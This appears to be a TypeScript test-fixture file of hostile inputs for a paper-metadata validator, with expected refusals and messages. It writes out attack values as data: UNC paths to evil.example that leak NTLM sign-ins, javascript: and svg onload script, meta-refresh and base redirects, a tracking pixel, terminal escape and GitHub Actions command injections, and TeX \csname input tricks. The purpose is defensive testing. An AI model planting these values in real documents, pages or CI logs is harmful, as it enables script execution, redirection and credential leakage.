import { paper, type HostileKind } from './hostile-kinds.ts';

/**
 * Hostile papers of kinds the earlier passes did not write (ninth pass): arXiv ids arXiv never
 * gave (a number of zeros only, a month before its first); dates before arXiv's first year, told
 * what to write; author names with no letter of any script; a Windows network path beside TeX, named
 * as the path it is; links by a fragment or an autolink, a tracking image by reference, raw
 * `<meta refresh>`, `<base>` and `<svg>`; terminal and GitHub Actions commands in a tag, a title or a
 * venue; TeX's `^^` caret notation and `\csname` where LaTeX reads them. Each is refused naming its field (and
 * line), saying what is right, or accepted with outputs each consumer reads as data.
 */
export const HOSTILE_KINDS_9: HostileKind[] = [
  // arXiv ids that follow the grammar but name no paper: numbered zero, or before August 1991.
  {
    id: 'arxiv-numbered-zero',
    file: paper({ arxiv: '"2401.00000"' }),
    refused: 'arxiv',
    line: 8,
    says: /no paper is numbered 00000: .*2401\.00001/,
  },
  {
    id: 'arxiv-old-numbered-zero',
    file: paper({ arxiv: '"hep-th/9901000"' }),
    refused: 'arxiv',
    line: 8,
    says: /hep-th\/9901001/,
  },
  {
    id: 'arxiv-before-arxiv',
    file: paper({ arxiv: '"hep-th/9107001"' }),
    refused: 'arxiv',
    line: 8,
    says: /July 1991, before arXiv's first papers: its ids start in August 1991/,
  },
  { id: 'arxiv-first-month', file: paper({ arxiv: '"hep-th/9108001"' }) },
  // Dates before 1991: the message says what the field's date is and what to do.
  { id: 'date-1990', file: paper({ date: '"1990-06-06"' }), refused: 'date', line: 5, says: /: check its year; / },
  {
    id: 'published-1990',
    file: paper({ published: '"1990-06-06"' }),
    refused: 'published',
    line: 8,
    says: /: check its year against the first version's date .*or delete the published line/,
  },
  // An author "name" with no letter of any script names no one, though every list would print it.
  ...(
    [
      ['author-dot', '"."'],
      ['author-hyphen', '"-"'],
      ['author-apostrophe', '"\'"'],
      ['author-middle-dot', '"·"'],
      ['author-em-dash', '"—"'],
      ['author-digits', '"12345"'],
      ['author-signs', '"· — . 42"'],
    ] as const
  ).map(([id, name]): HostileKind => ({
    id,
    file: paper({ authors: `\n  - Ada Lovelace\n  - ${name}` }),
    refused: 'authors[1]',
    line: 5,
    says: /has no letter of any script .*: write the author's name as the paper gives it/,
  })),
  // A letter of any script is a name's.
  { id: 'author-han-and-digit', file: paper({ authors: '\n  - 王小明\n  - "Ada Lovelace 2"' }) },
  // A Windows network (UNC) path beside a TeX command, or in a name (where `\` is refused as
  // syntax): the message names the path and the sign-in it leaks, not only the backslash.
  ...(
    [
      ['author-unc-path', 'authors[0]', { authors: `\n  - ${String.raw`'Ada \\evil.example\share'`}` }, 4],
      ['author-unc-share-input', 'authors[0]', { authors: `\n  - ${String.raw`'\\fileserver\share\input'`}` }, 4],
      ['title-unc-tex-command', 'title', { title: String.raw`'Data at \\evil.example\share\input'` }, 2],
      ['venue-unc-tex-command', 'venue', { venue: String.raw`'\emph{W} \\evil.example\share'` }, 8],
    ] as const
  ).map(([id, refused, fields, line]): HostileKind => ({
    id,
    file: paper(fields),
    refused,
    line,
    says: /^holds the Windows network path \\\\.*sign-in \(NTLM\)/,
  })),
  // Links by a fragment (clobbering the page's own ids) or an autolink; a tracking pixel by a
  // reference definition; raw HTML that redirects, rebases links or runs script.
  ...(
    [
      ['math-href-fragment', 'Math $\\href{#search}{x}$ here.'],
      ['math-url-fragment', 'Math $\\url{#top}$ here.'],
      ['body-autolink-javascript', 'See <javascript:alert(1)> now.'],
      ['body-image-reference-pixel', 'Text ![x][p] here.\n\n[p]: https://tracker.example/p.png'],
      ['body-meta-refresh', 'Text <meta http-equiv="refresh" content="0;url=https://evil.example"> here.'],
      ['body-base-href', 'Text <base href="https://evil.example/"> here.'],
      ['body-svg-onload', 'Text <svg onload=alert(1)> here.'],
    ] as const
  ).map(([id, body]): HostileKind => ({ id, file: paper({}, body), refused: 'body', line: 10 })),
  // Escapes a terminal runs (a colour, an OSC 8 link) and GitHub Actions workflow commands in a
  // tag, printed by the check in its message: refused, in lines a terminal shows as text.
  { id: 'tag-ansi-escape', file: paper({ tags: '\n  - "optim\\e[31mization"' }), refused: 'tags[0]', line: 7 },
  {
    id: 'tag-osc8-hyperlink',
    file: paper({ tags: '\n  - "\\e]8;;https://evil.example\\e\\\\x\\e]8;;\\e\\\\"' }),
    refused: 'tags[0]',
    line: 7,
  },
  { id: 'tag-workflow-command', file: paper({ tags: '\n  - "::error::x"' }), refused: 'tags[0]', line: 7 },
  { id: 'tag-workflow-newline', file: paper({ tags: '\n  - "x%0A::stop-commands::y"' }), refused: 'tags[0]', line: 7 },
  // …and in a title or a venue, which the check prints only inside its lines: kept as text.
  { id: 'title-workflow-command', file: paper({ title: "'::stop-commands::x ::error file=a::b %0A title'" }) },
  { id: 'venue-workflow-command', file: paper({ venue: "'::error::NeurIPS 2023'" }) },
  // TeX's caret notation (`^^5c` is a backslash to TeX) and \csname, where LaTeX reads a title or
  // venue (.bib files): shown as text outside math, refused in a title's math and as TeX in a venue.
  { id: 'title-caret-notation', file: paper({ title: "'A ^^5cinput{x} title'" }) },
  { id: 'title-math-caret-notation', file: paper({ title: "'A $^^5c$ title'" }), refused: 'title', line: 2 },
  { id: 'venue-csname', file: paper({ venue: "'\\csname input\\endcsname{x}'" }), refused: 'venue', line: 8 },
];
